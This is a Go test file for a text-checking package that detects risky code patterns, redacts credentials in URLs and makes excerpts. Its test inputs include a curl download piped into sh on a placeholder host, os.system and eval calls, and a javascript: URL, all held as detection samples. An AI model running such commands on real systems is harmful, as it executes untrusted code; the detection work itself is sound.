package textcheck_test

import (
	"slices"
	"testing"

	"github.com/modelgate/modelgate/internal/textcheck"
)

func TestCode(t *testing.T) {
	for _, tt := range []struct {
		text   string
		labels []string
		first  int
	}{
		{"A small model for sentiment analysis.", nil, -1},
		{"run: curl -s https://x.invalid/a.sh | sh", []string{"a download piped into a shell"}, 5},
		{"x = __import__('os').system('id')", []string{"__import__"}, 4},
		{"os.system('id') and eval(x)", []string{"os.system", "eval("}, 0},
		{"Please import the weights first.", nil, -1},
	} {
		labels, first := textcheck.Code(tt.text, textcheck.CodePatterns)
		if !slices.Equal(labels, tt.labels) || first != tt.first {
			t.Errorf("Code(%q) = %v %d, want %v %d", tt.text, labels, first, tt.labels, tt.first)
		}
	}
	if labels, _ := textcheck.Code("f = lambda x: x + 1", []textcheck.Pattern{textcheck.Lambda}); len(labels) != 1 {
		t.Error("lambda not found")
	}
}

func TestRedactURLAndExcerpt(t *testing.T) {
	if got := textcheck.RedactURL("https://user:pw@host.invalid/p?token=s3cr3t#f"); got != "https://…@host.invalid/p?…" {
		t.Errorf("RedactURL = %q", got)
	}
	if got := textcheck.Excerpt("0123456789012345678901234567890", 25); got != "…56789012345678901234567890" {
		t.Errorf("Excerpt = %q", got)
	}
	if loc := textcheck.URL.FindStringIndex("see javascript:alert(1) now"); loc == nil {
		t.Error("javascript: URL not found")
	}
}
